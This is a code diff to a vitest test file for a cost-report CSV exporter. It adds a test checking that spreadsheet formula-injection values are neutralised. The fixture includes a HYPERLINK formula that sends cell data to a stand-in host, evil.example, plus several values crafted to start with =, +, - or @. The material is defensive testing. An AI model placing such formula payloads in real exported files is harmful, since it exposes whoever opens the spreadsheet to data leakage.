@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import type { CostSummary } from '@shared/contract'
-import { costReportCsv } from './cost-export'
+import { costReportCsv, costsCsv } from './cost-export'
 
 const tok = (input: number) => ({ input, output: 1, cacheRead: 2, cacheWrite: 0, reasoning: 3 })
 const est = (usd: number) => ({ usd, status: 'estimated' as const, complete: true })
@@ -55,5 +55,37 @@ describe('cost report CSV', () => {
     expect(lines).toContain('day,2026-12-02,default,,,,100,2,1,3,12060000,12.060000,complete')
     expect(lines).toContain('session,,default,s1,Lisbon trip,,,,,,12060000,12.060000,estimated')
     expect(lines).toContain('model,,,,,"b, ""quoted""",5,2,1,3,5000,0.005000,estimated')
+  })
+
+  it('writes no cell a spreadsheet would run as a formula; negative numbers stay numbers', () => {
+    const evil: CostSummary = {
+      ...summary,
+      profiles: [{ profile: '@evil', own: est(-1.5), children: est(0), inclusive: est(-1.5), sessions: 1 }],
+      byDay: [{ day: '2026-12-02', profile: '+cmd', usd: -1.5, unpriced: false }],
+      tokensByDay: [],
+      topSessions: [
+        {
+          profile: 'default',
+          sessionId: '-s1',
+          title: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+          own: est(-1.5),
+          inclusive: est(-1.5)
+        }
+      ],
+      byModel: [
+        { model: '\tm', cost: est(-1.5), tokens: tok(1) },
+        { model: '\r=1+1', cost: est(0), tokens: tok(1) },
+        { model: '-2+3', cost: est(0), tokens: tok(1) }
+      ]
+    }
+    const lines = costReportCsv(evil).trimEnd().split('\r\n')
+    expect(lines).toContain("day,2026-12-02,'+cmd,,,,,,,,-1500000,-1.500000,complete")
+    expect(lines).toContain(
+      'session,,default,\'-s1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,,,,,-1500000,-1.500000,estimated'
+    )
+    expect(lines).toContain("model,,,,,'\tm,1,2,1,3,-1500000,-1.500000,estimated")
+    expect(lines).toContain('model,,,,,"\'\r=1+1",1,2,1,3,0,0.000000,estimated')
+    expect(lines).toContain("model,,,,,'-2+3,1,2,1,3,0,0.000000,estimated")
+    expect(costsCsv(evil).split('\r\n')[1]).toBe("'@evil,1,-1.500000,0.000000,-1.500000,estimated,yes")
   })
 })
